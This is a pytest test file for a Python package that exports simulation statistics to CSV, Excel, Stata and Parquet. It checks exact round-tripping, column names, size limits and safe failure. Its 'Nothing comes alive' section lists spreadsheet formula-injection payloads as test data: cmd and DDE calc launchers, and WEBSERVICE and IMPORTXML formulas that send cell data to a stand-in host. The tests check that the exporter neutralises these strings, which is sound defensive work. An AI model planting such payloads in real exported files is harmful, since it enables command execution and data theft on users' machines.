"""Tables for other programs: every format gives back what went in, and no text of a user comes alive in it."""

from __future__ import annotations

import csv
import json
import math
import re
import resource
import sys
import time
import weakref
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from importlib.metadata import version
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
import xarray as xr
from openpyxl.utils.escape import unescape

from fiveyear.experiments.console.errors import LimitError, MissingPackageError, WriteError
from fiveyear.experiments.page.columns import Cell, Column
from fiveyear.experiments.store.description import Case
from fiveyear.experiments.store.tables import export, spreadsheet, stata
from fiveyear.experiments.store.tables.export import require_format
from fiveyear.experiments.store.tables.statistics import Form, Statistic
from fiveyear.model.errors import InputError, ModelError

KEY = "paths.planned_rd_intensity.values.2015"
AWKWARD = [0.1 + 0.2, 1 / 3, -2.5, 1e22, 123456789.123456789, 2.5e-300, -0.0]  # 17 digits, signs and sizes

STATISTIC = Statistic(
    scenario="plan",
    factors={},
    case=0,
    indicator="rd_intensity",
    label="R&D expenditure / GDP",
    unit="%",
    year=2015,
    draws=1000,
    not_finite=0,
    mean=1.875,
    quantiles={0.05: 1.5, 0.25: 1.75, 0.5: 2.0, 0.75: 2.25, 0.95: 2.5},
)


@dataclass
class Finished:
    """A finished experiment as the tables see it."""

    given: Sequence[Statistic] = (STATISTIC,)
    blocks_given: Iterable[xr.Dataset] = ()
    about: Mapping[str, Any] = field(
        default_factory=lambda: {
            "title": "How much, how late?",
            "keep": "draws",
            "seed": 2011,
            "outputs": ["rd_intensity"],
        }
    )
    cases: Sequence[Case] = (Case(scenario="plan", factors={}, content={"title": "not for the metadata"}),)

    def statistics(self, levels: Sequence[float]) -> Iterable[Statistic]:
        assert tuple(levels) == (0.05, 0.25, 0.5, 0.75, 0.95)
        return iter(self.given)

    def blocks(self) -> Iterator[xr.Dataset]:
        return iter(self.blocks_given)


def write(result: Finished, out: Path, form: Form, region: str = "") -> None:
    stand_in: Any = result
    export.write(stand_in, out, form, region)


def block(start: int, values: np.ndarray[Any, Any], cases: Sequence[int], name: str = "rd_intensity") -> xr.Dataset:
    """Give a chunk's Dataset of one indicator: ``values`` are (row, year), from 2014 on."""
    rows, years = values.shape
    return xr.Dataset(
        {name: (("row", "year"), values, {"units": "%", "long_name": "R&D 经费 / GDP"})},
        coords={
            "row": start + np.arange(rows),
            "case": ("row", np.asarray(cases)),
            "draw": ("row", start + np.arange(rows)),
            "year": 2014 + np.arange(years),
        },
    )


def read_csv(file: Path, delimiter: str = ",") -> list[list[str]]:
    with file.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream, delimiter=delimiter))


def read_xlsx(file: Path) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(file)["data"].iter_rows(values_only=True))


def finished(*statistics: Statistic, **about: object) -> Finished:
    made = Finished(statistics)
    made.about = {**made.about, **about}
    return made


# --- The long table ---


def test_the_long_table_as_csv_is_plain_utf_8_with_a_row_a_case_indicator_and_year(tmp_path: Path) -> None:
    out = tmp_path / "q.csv"
    late = replace(STATISTIC, scenario="推迟", factors={"delay": 2, KEY: 1.8}, case=1, mean=None, not_finite=1000)
    write(finished(replace(STATISTIC, factors={KEY: -2.0}), replace(late, quantiles={})), out, Form.QUANTILES)
    assert out.read_bytes().decode("utf-8") == (
        f"scenario,{KEY},delay,indicator,label,unit,year,draws,not_finite,mean,p05,p25,p50,p75,p95\n"
        "plan,-2.0,,rd_intensity,R&D expenditure / GDP,%,2015,1000,0,1.875,1.5,1.75,2.0,2.25,2.5\n"
        "推迟,1.8,2,rd_intensity,R&D expenditure / GDP,%,2015,1000,1000,,,,,,\n"
    )


def test_csv_xlsx_and_stata_hold_the_same_columns_in_the_same_order(tmp_path: Path) -> None:
    result = finished(replace(STATISTIC, factors={"delay": 2}))
    for suffix in (".csv", ".xlsx", ".dta"):
        write(result, tmp_path / f"q{suffix}", Form.QUANTILES)
    names = read_csv(tmp_path / "q.csv")[0]
    assert list(read_xlsx(tmp_path / "q.xlsx")[0]) == names
    assert list(pd.read_stata(tmp_path / "q.dta").columns) == names


def test_every_format_of_the_long_table_gives_numbers_back_to_the_bit(tmp_path: Path) -> None:
    result = finished(*(replace(STATISTIC, mean=x, factors={"f": x}) for x in AWKWARD))
    for suffix in (".csv", ".xlsx", ".dta"):
        write(result, tmp_path / f"q{suffix}", Form.QUANTILES)
    texts = read_csv(tmp_path / "q.csv")
    place = texts[0].index("mean")
    sheet = read_xlsx(tmp_path / "q.xlsx")
    data = pd.read_stata(tmp_path / "q.dta")
    wanted = [x.hex() for x in AWKWARD]
    for column in (1, place):
        assert [float(row[column]).hex() for row in texts[1:]] == wanted
        assert [float(row[column]).hex() for row in sheet[1:]] == wanted
        assert [float(x).hex() for x in data.iloc[:, column]] == wanted


@pytest.mark.parametrize("unknown", [None, math.nan, math.inf, -math.inf])
def test_what_is_no_number_is_an_empty_cell(tmp_path: Path, unknown: float | None) -> None:
    quantiles = {0.05: math.nan if unknown is None else unknown, 0.5: 2.0}
    result = finished(replace(STATISTIC, mean=unknown, quantiles=quantiles), STATISTIC)
    for suffix in (".csv", ".xlsx", ".dta"):
        write(result, tmp_path / f"q{suffix}", Form.QUANTILES)
    texts = dict(zip(*read_csv(tmp_path / "q.csv")[:2], strict=True))
    assert [texts[c] for c in ("mean", "p05", "p25", "p50")] == ["", "", "", "2.0"]
    cells = dict(zip(*read_xlsx(tmp_path / "q.xlsx")[:2], strict=True))
    assert [cells[c] for c in ("mean", "p05", "p25", "p50")] == [None, None, None, 2.0]
    row = pd.read_stata(tmp_path / "q.dta").iloc[0]
    assert [bool(np.isnan(row[c])) for c in ("mean", "p05", "p25", "p50")] == [True, True, True, False]


def test_chinese_labels_come_back_from_every_format(tmp_path: Path) -> None:
    texts = {"scenario": "十二五规划", "label": "研发经费占国内生产总值的比重", "unit": "亿元", "indicator": "强度"}
    result = finished(replace(STATISTIC, **texts, factors={"政策": "推迟两年"}), title="多少钱")  # type: ignore[arg-type]
    for suffix in (".csv", ".xlsx", ".dta"):
        write(result, tmp_path / f"q{suffix}", Form.QUANTILES)
    wanted = ["十二五规划", "推迟两年", "强度", "研发经费占国内生产总值的比重", "亿元"]
    assert read_csv(tmp_path / "q.csv")[1][:5] == wanted
    assert list(read_xlsx(tmp_path / "q.xlsx")[1][:5]) == wanted
    with pd.io.stata.StataReader(tmp_path / "q.dta") as reader:
        assert list(reader.read().iloc[0, :5]) == wanted
        assert reader.data_label == "多少钱"
        assert reader.variable_labels()["factor"] == "factor 政策"


def test_lists_truth_values_and_texts_of_factors_are_told_as_the_user_wrote_them(tmp_path: Path) -> None:
    values: list[object] = [[2011, -0.5], True, "low", 3, 1.5, 2**60]
    result = finished(*(replace(STATISTIC, case=i, factors={"f": v}) for i, v in enumerate(values)))
    for suffix in (".csv", ".xlsx", ".dta"):
        write(result, tmp_path / f"q{suffix}", Form.QUANTILES)
    texts = ["[2011, -0.5]", "true", "low", "3", "1.5", "1152921504606846976"]
    assert [row[1] for row in read_csv(tmp_path / "q.csv")[1:]] == texts
    assert [row[1] for row in read_xlsx(tmp_path / "q.xlsx")[1:]] == [*texts[:3], 3, 1.5, texts[5]]
    assert list(pd.read_stata(tmp_path / "q.dta")["f"]) == texts


def test_a_factor_called_like_a_column_hides_none(tmp_path: Path) -> None:
    out = tmp_path / "q.csv"
    write(finished(replace(STATISTIC, factors={"year": 7, "p50": 8})), out, Form.QUANTILES)
    row = dict(zip(*read_csv(out), strict=True))
    assert [row[c] for c in ("year_2", "p50_2", "year", "p50")] == ["7", "8", "2015", "2.0"]


@pytest.mark.slow
def test_the_same_results_give_the_same_bytes_at_another_time(tmp_path: Path) -> None:
    result = finished(replace(STATISTIC, factors={KEY: 1.8}))
    result.blocks_given = [block(0, np.ones((3, 2)), [0, 0, 0])]
    files = {"q.csv": Form.QUANTILES, "q.xlsx": Form.QUANTILES, "q.dta": Form.QUANTILES, "d.parquet": Form.DRAWS}
    made = []
    for _ in range(2):
        for name, form in files.items():
            write(result, tmp_path / name, form)
        made.append({name: (tmp_path / name).read_bytes() for name in files})
        time.sleep(2.1)  # dates in a zip go by two seconds
    assert made[0] == made[1]
    with pd.io.stata.StataReader(tmp_path / "q.dta") as reader:  # its date goes by the minute
        assert reader.time_stamp == "01 Jan 1980 00:00"


# --- Stata ---


def test_stata_names_are_valid_and_distinct_and_the_label_tells_the_whole_key(tmp_path: Path) -> None:
    keys = [
        "paths.planned_rd_intensity.values.2015",
        "initial.planned_rd_intensity.values.2015",
        "2015",
        "str12",
        "in",
        "政策",
        "期限",
        "a" * 40,
        "a" * 41,
    ]
    write(finished(replace(STATISTIC, factors=dict.fromkeys(keys, 1))), tmp_path / "q.dta", Form.QUANTILES)
    with pd.io.stata.StataReader(tmp_path / "q.dta") as reader:
        names = list(reader.read().columns)
        labels = reader.variable_labels()
    assert names[1:10] == [
        "planned_rd_intensity_values_2015",
        "planned_rd_intensity_values_20_2",
        "_2015",
        "_str12",
        "_in",
        "factor",
        "factor_2",
        "a" * 32,
        "a" * 30 + "_2",
    ]
    assert all(re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]{0,31}", n) for n in names)
    assert labels["planned_rd_intensity_values_20_2"] == "factor initial.planned_rd_intensity.values.2015"
    assert labels["p05"] == "5th percentile, in the unit that unit states"


def test_texts_longer_than_a_plain_field_of_stata_come_back_whole(tmp_path: Path) -> None:
    label = "研" * 2000  # 6,000 bytes
    write(finished(replace(STATISTIC, label=label), title="长" * 300), tmp_path / "q.dta", Form.QUANTILES)
    assert pd.read_stata(tmp_path / "q.dta")["label"][0] == label


@pytest.mark.parametrize("large", [8.99e307, -1e308])
def test_a_number_that_stata_would_read_as_missing_is_refused(tmp_path: Path, large: float) -> None:
    with pytest.raises(LimitError, match=re.escape(f"mean: {large!r} is beyond 8.988e+307")):
        write(finished(replace(STATISTIC, mean=large)), tmp_path / "q.dta", Form.QUANTILES)
    assert list(tmp_path.iterdir()) == []


def test_more_columns_than_stata_holds_are_refused() -> None:
    with pytest.raises(LimitError, match=r"32,768 columns, and \.dta takes 32,767"):
        stata.require_room([Column(f"c{i}", "", []) for i in range(32_768)], Path("q.dta"))


# --- Spreadsheets ---


def test_a_sheet_takes_as_many_rows_as_it_has_and_no_more() -> None:
    full: list[Cell] = [None] * 1_048_575
    spreadsheet.require_room([Column("a", "", full)], Path("q.xlsx"))
    with pytest.raises(LimitError, match=r"1,048,577 rows with that of the names, and \.xlsx takes 1,048,576"):
        spreadsheet.require_room([Column("a", "", [*full, None])], Path("q.xlsx"))


def test_a_text_too_long_for_a_cell_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    write(finished(replace(STATISTIC, label="x" * 32_767)), tmp_path / "q.xlsx", Form.QUANTILES)
    assert read_xlsx(tmp_path / "q.xlsx")[1][2] == "x" * 32_767
    with pytest.raises(LimitError, match="32,768 characters in a cell"):
        write(finished(replace(STATISTIC, label="x" * 32_768)), tmp_path / "r.xlsx", Form.QUANTILES)
    with pytest.raises(LimitError, match="40,000 characters in a cell"):
        write(finished(STATISTIC, title="x" * 40_000), tmp_path / "r.xlsx", Form.QUANTILES)
    assert [p.name for p in tmp_path.iterdir()] == ["q.xlsx"]


def test_a_workbook_says_what_its_numbers_were_made_from(tmp_path: Path) -> None:
    plan = {"end": 2015, "paths": {str(year): {"source": "x" * 1000} for year in range(50)}}  # too long for one cell
    write(finished(STATISTIC, plan=plan), tmp_path / "q.xlsx", Form.QUANTILES)
    sheet = openpyxl.load_workbook(tmp_path / "q.xlsx")["provenance"]
    assert dict(sheet.iter_rows(min_row=2, values_only=True)) == {
        "title": "How much, how late?",
        "keep": "draws",
        "seed": 2011,
        "outputs": '["rd_intensity"]',
        "plan.end": 2015,
        **{f"plan.paths.{year}.source": "x" * 1000 for year in range(50)},
    }


# --- The IAMC's format ---


def test_the_iamc_table_has_a_row_a_scenario_and_quantile_and_a_column_a_year(tmp_path: Path) -> None:
    later = replace(STATISTIC, factors={KEY: 1.8, "mode": "slow"}, case=1, label="Spending|R&D")
    result = finished(
        replace(STATISTIC, year=2015, quantiles={0.05: 1.5, 0.5: 2.0}),
        replace(STATISTIC, year=2014, quantiles={0.05: 1.25}),
        replace(later, indicator="rd_spending", unit="亿元", quantiles={0.95: 3.0}),
    )
    for suffix in (".csv", ".xlsx"):
        write(result, tmp_path / f"i{suffix}", Form.IAMC, region="China")
    model = f"fiveyear {version('fiveyear')}"
    plan = [model, "plan", "China"]
    slow = [model, f"plan ({KEY} = 1.8, mode = slow)", "China"]
    first, second = "Finance|R&D expenditure / GDP", "Finance|Spending/R&D"
    assert read_csv(tmp_path / "i.csv") == [
        ["Model", "Scenario", "Region", "Variable", "Unit", "2014", "2015"],
        [*plan, f"{first}|5.0th Percentile", "%", "1.25", "1.5"],
        [*plan, f"{first}|25.0th Percentile", "%", "", ""],
        [*plan, f"{first}|50.0th Percentile", "%", "", "2.0"],
        [*plan, f"{first}|75.0th Percentile", "%", "", ""],
        [*plan, f"{first}|95.0th Percentile", "%", "", ""],
        [*slow, f"{second}|5.0th Percentile", "亿元", "", ""],
        [*slow, f"{second}|25.0th Percentile", "亿元", "", ""],
        [*slow, f"{second}|50.0th Percentile", "亿元", "", ""],
        [*slow, f"{second}|75.0th Percentile", "亿元", "", ""],
        [*slow, f"{second}|95.0th Percentile", "亿元", "", "3.0"],
    ]
    sheet = read_xlsx(tmp_path / "i.xlsx")
    assert sheet[0] == ("Model", "Scenario", "Region", "Variable", "Unit", 2014, 2015)
    assert sheet[1] == (*plan, f"{first}|5.0th Percentile", "%", 1.25, 1.5)


def test_two_indicators_of_one_label_are_two_variables(tmp_path: Path) -> None:
    result = finished(
        replace(STATISTIC, indicator="a", label="Spending|R&D"), replace(STATISTIC, indicator="b", label="Spending/R&D")
    )
    write(result, tmp_path / "i.csv", Form.IAMC, region="China")
    variables = {row[3].split("|")[0] for row in read_csv(tmp_path / "i.csv")[1:]}
    assert variables == {"Spending/R&D (a)", "Spending/R&D (b)"}


def test_an_iamc_table_without_a_region_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="states a region on each row, and none was given"):
        write(finished(STATISTIC), tmp_path / "i.csv", Form.IAMC, region=" ")
    assert list(tmp_path.iterdir()) == []


# --- Draws ---

CASES = [
    Case(scenario="plan", factors={"delay": 2, "mode": "slow"}, content={}),
    Case(scenario="推迟", factors={"delay": 2.5, "mode": [1, 2]}, content={}),
]


def draws(blocks: Iterable[xr.Dataset]) -> Finished:
    return Finished(blocks_given=blocks, about={"keep": "draws", "title": "\ud800", "seed": 2011}, cases=CASES)


def test_parquet_holds_every_draw_of_every_block_to_the_bit(tmp_path: Path) -> None:
    values = np.random.default_rng(1).standard_normal((5, 3))
    values[1, 2], values[2, 0], values[3, 1], values[4, 2] = math.nan, math.inf, -0.0, 5e-324
    blocks = [block(0, values[:2], [0, 0]), block(2, values[2:], [0, 1, 1])]
    blocks[1]["rd_intensity"] = blocks[1]["rd_intensity"].transpose("year", "row")
    write(draws(blocks), tmp_path / "d.parquet", Form.DRAWS)
    table = pq.read_table(tmp_path / "d.parquet")
    assert table.column_names == ["case", "draw", "scenario", "delay", "mode", "year", "rd_intensity"]
    assert table["rd_intensity"].to_numpy().tobytes() == values.ravel().tobytes()
    assert table["year"].to_pylist() == [2014, 2015, 2016] * 5
    assert table["draw"].to_pylist() == [i for i in range(5) for _ in range(3)]
    assert table["case"].to_pylist() == [0] * 9 + [1] * 6
    assert table["scenario"].to_pylist() == ["plan"] * 9 + ["推迟"] * 6
    assert table["delay"].to_pylist() == [2.0] * 9 + [2.5] * 6
    assert table["mode"].to_pylist() == ["slow"] * 9 + ["[1, 2]"] * 6
    assert str(table.schema.field("scenario").type).startswith("dictionary<values=string")


def test_parquet_says_units_labels_and_where_its_draws_come_from(tmp_path: Path) -> None:
    write(draws([block(0, np.ones((1, 2)), [0])]), tmp_path / "d.parquet", Form.DRAWS)
    schema = pq.read_schema(tmp_path / "d.parquet")
    about = schema.field("rd_intensity").metadata
    assert (about[b"unit"].decode(), about[b"label"].decode()) == ("%", "R&D 经费 / GDP")
    assert json.loads(schema.metadata[b"fiveyear"]) == {"keep": "draws", "title": "\ud800", "seed": 2011}


def test_an_indicator_called_like_another_column_hides_none(tmp_path: Path) -> None:
    write(draws([block(0, np.full((1, 1), 7.0), [1], name="delay")]), tmp_path / "d.parquet", Form.DRAWS)
    assert pq.read_table(tmp_path / "d.parquet").to_pylist() == [
        {"case": 1, "draw": 0, "scenario": "推迟", "delay": 2.5, "mode": "[1, 2]", "year": 2014, "delay_2": 7.0}
    ]


def test_writing_parquet_holds_no_block_longer_than_it_takes_to_write_the_next(tmp_path: Path) -> None:
    made: list[weakref.ref[xr.Dataset]] = []
    alive = []

    def blocks() -> Iterator[xr.Dataset]:
        for number in range(6):
            alive.append(sum(ref() is not None for ref in made))
            one = block(number, np.ones((1, 2)), [0])
            made.append(weakref.ref(one))
            yield one
            del one

    write(draws(blocks()), tmp_path / "d.parquet", Form.DRAWS)
    assert max(alive) == 1


# --- Nothing comes alive ---

CALC = "cmd|' /C calc'!A0"
LINK = 'HYPERLINK("http://example.invalid","click")'
PAYLOADS = [
    f"={CALC}", f"+{CALC}", f"-{CALC}", f"@SUM(1+9)*{CALC}", "=1+1", "+1+1", "-2+3", "@SUM(1)", f"={LINK}", f"+{LINK}",
    f"\t={CALC}", f"\r={CALC}", f"\n={CALC}", f"\r\n={CALC}", f" ={CALC}", f"   +{CALC}", f"\u00a0={CALC}",
    f"\u3000={CALC}", f"\ufeff={CALC}", f"\u200b={CALC}", f"\u202e={CALC}", f"\x00={CALC}", f"\x1b={CALC}",
    f"\u2028={CALC}", f"\ud800={CALC}", f"＝{CALC}", "＋1+1", "－2+3", "＠SUM(1)", f"﹦{CALC}", "﹢1+1",
    "﹣2+3", "﹫SUM(1)",
    f"a;={CALC}", "a; @SUM(1);-1+1", f"a\n={CALC}", f"a\t={CALC}", f'",={CALC},"', f'"\n={CALC}', f"',={CALC}",
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")', '=WEBSERVICE("http://example.invalid/"&A1)',
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "{=1+1}", "=-+1",
    "http://example.invalid/", "mailto:a@example.invalid", "internal:data!A1", "external:c:\\x.xlsx", "ftp://example.invalid",
    "<r></is></c><c r=\"Z9\"><f>1+1</f><v>2</v></c><c r=\"Z8\" t=\"inlineStr\"><is></r>", "<r><t>=1+1</t></r>",
    "]]><f>1+1</f>", "_x003D_1+1", "&#61;1+1",
]  # fmt: skip
BEGIN_A_FORMULA = set("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")


def infected(payload: str) -> Finished:
    """Give an experiment with the payload wherever a user's text goes."""
    one = replace(STATISTIC, scenario=payload, indicator=payload, label=payload, unit=payload)
    return finished(replace(one, factors={payload: payload, "n": -2.5}), title=payload, **{payload: payload})


def test_there_are_forty_payloads_at_least() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("form", [Form.QUANTILES, Form.IAMC])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_csv_file_begins_a_formula_wherever_a_spreadsheet_cuts(
    tmp_path: Path, payload: str, form: Form
) -> None:
    out = tmp_path / "t.csv"
    write(infected(payload), out, form, region=payload)
    for delimiter in (",", ";", "\t"):
        for cell in (cell for row in read_csv(out, delimiter) for cell in row):
            if not re.fullmatch(r"-?\d+(\.\d+)?", cell):
                assert not set(cell[:1]) & BEGIN_A_FORMULA
                assert not set(cell.strip(" \u00a0\u3000\ufeff\u200b\u202e")[:1]) & BEGIN_A_FORMULA
    rows = read_csv(out)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == (2 if form is Form.QUANTILES else 6)
    assert form is Form.IAMC or rows[1][2] == "-2.5"


@pytest.mark.parametrize("form", [Form.QUANTILES, Form.IAMC])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_workbook_holds_texts_as_texts_with_no_formula_and_no_link(tmp_path: Path, payload: str, form: Form) -> None:
    out = tmp_path / "t.xlsx"
    write(infected(payload), out, form, region=payload)
    with zipfile.ZipFile(out) as parts:
        for name in parts.namelist():
            content = parts.read(name).decode("utf-8")
            assert not re.search(r"<f[ >/]|<hyperlink|externalLink|TargetMode|ddeLink", content), name
            assert "http://example" not in content or name.startswith("xl/worksheets/sheet"), name
    wanted = re.sub(r"[\x00-\x1f\ud800\u2028]", " ", payload)
    wanted = f" {wanted}" if wanted.startswith("<r>") else wanted
    book = openpyxl.load_workbook(out)
    for sheet in book:
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert {c.data_type for c in cells} <= {"s", "n"}
        assert all(c.hyperlink is None for c in cells)
    first = {unescape(str(c[0].value)): unescape(str(c[1].value)) for c in book["data"].iter_cols()}
    about = {unescape(key): unescape(str(value)) for key, value in book["provenance"].iter_rows(values_only=True)}
    assert about["title"] == about[wanted] == wanted
    if form is Form.QUANTILES:
        assert [first[c] for c in ("scenario", wanted, "indicator", "label", "unit")] == [wanted] * 5
    else:
        assert first["Region"] == first["Unit"] == wanted


@pytest.mark.parametrize("payload", ["growth = 7 %", "1 - 2", "a@b", "", "'quoted'", "x; y", "−5 %"])
def test_a_text_that_begins_no_formula_stays_as_it_is_in_a_csv_file(tmp_path: Path, payload: str) -> None:
    write(finished(replace(STATISTIC, label=payload)), tmp_path / "t.csv", Form.QUANTILES)
    assert read_csv(tmp_path / "t.csv")[1][2] == payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_stata_and_parquet_take_any_text(tmp_path: Path, payload: str) -> None:
    write(infected(payload), tmp_path / "t.dta", Form.QUANTILES)
    wanted = re.sub(r"[\x00-\x1f\ud800\u2028]", " ", payload)
    assert pd.read_stata(tmp_path / "t.dta")["scenario"][0] == wanted
    case = Case.model_construct(scenario=payload, factors={payload: payload}, content={})
    result = Finished((), [block(0, np.ones((1, 1)), [0])], {"keep": "draws", "title": payload}, [case])
    write(result, tmp_path / "t.parquet", Form.DRAWS)
    (row,) = pq.read_table(tmp_path / "t.parquet").to_pylist()
    assert row["scenario"] == row[wanted] == wanted


# --- Files ---


@pytest.mark.parametrize(
    ("name", "form", "message"),
    [
        ("q.ods", Form.QUANTILES, "the name ends in .ods; a table of quantiles ends in .csv or .xlsx or .dta or"),
        ("i.parquet", Form.IAMC, "the name ends in .parquet; a table of iamc ends in .csv or .xlsx"),
        ("d.csv", Form.DRAWS, "the name ends in .csv; a table of draws ends in .parquet"),
        ("i.dta", Form.IAMC, "the name ends in .dta; a table of iamc ends in .csv or .xlsx"),
        ("quantiles", Form.QUANTILES, "the name has no ending; a table of quantiles ends in"),
    ],
)
def test_a_name_that_no_format_goes_by_is_refused_with_the_known(name: str, form: Form, message: str) -> None:
    with pytest.raises(InputError, match=re.escape(message)):
        require_format(Path(name), form, "China")


def test_capitals_name_a_format_too(tmp_path: Path) -> None:
    write(finished(STATISTIC), tmp_path / "Q.CSV", Form.QUANTILES)
    write(finished(STATISTIC), tmp_path / "Q.DTA", Form.QUANTILES)
    assert read_csv(tmp_path / "Q.CSV")[1][0] == pd.read_stata(tmp_path / "Q.DTA")["scenario"][0] == "plan"


@pytest.mark.parametrize(
    ("name", "form", "package"),
    [("q.xlsx", Form.QUANTILES, "xlsxwriter"), ("d.parquet", Form.DRAWS, "pyarrow")],
)
def test_a_format_whose_package_is_not_installed_names_the_extra(
    monkeypatch: pytest.MonkeyPatch, name: str, form: Form, package: str
) -> None:
    monkeypatch.setitem(sys.modules, package, None)
    with pytest.raises(MissingPackageError, match=rf'needs {package}, .*; pip install "fiveyear\[tables\]"') as refused:
        require_format(Path(name), form)
    assert isinstance(refused.value, ModelError)  # which the command line turns into exit code 2


@pytest.fixture
def small_disk(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[int], None]]:
    """Let files grow no larger than so many bytes."""
    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
    yield lambda most: resource.setrlimit(resource.RLIMIT_FSIZE, (most, hard))
    resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))


@pytest.mark.parametrize(
    ("name", "form"),
    [("t.csv", Form.QUANTILES), ("t.xlsx", Form.QUANTILES), ("t.dta", Form.QUANTILES), ("t.parquet", Form.DRAWS)],
)
@pytest.mark.parametrize("most", [100, 1000, 10_000])
def test_a_full_disk_leaves_the_old_file_and_nothing_else(
    tmp_path: Path, small_disk: Callable[[int], None], name: str, form: Form, most: int
) -> None:
    (tmp_path / name).write_text("old")
    values = np.random.default_rng(1).standard_normal((1000, 10))
    result = finished(*(replace(STATISTIC, case=i, mean=float(x)) for i, x in enumerate(values[:, 0])))
    result.blocks_given = [block(0, values, [0] * 1000)]
    small_disk(most)
    with pytest.raises(WriteError, match=rf"{name}: cannot be written: "):
        write(result, tmp_path / name, form)
    assert [p.name for p in tmp_path.iterdir()] == [name]
    assert (tmp_path / name).read_text() == "old"


def test_a_store_that_fails_half_way_leaves_the_old_file_and_nothing_else(tmp_path: Path) -> None:
    out = tmp_path / "d.parquet"
    out.write_text("old")

    def blocks() -> Iterator[xr.Dataset]:
        yield block(0, np.ones((2, 2)), [0, 0])
        raise InputError("store", ["damaged"])

    with pytest.raises(InputError, match="damaged"):
        write(draws(blocks()), out, Form.DRAWS)
    assert [p.name for p in tmp_path.iterdir()] == ["d.parquet"]
    assert out.read_text() == "old"
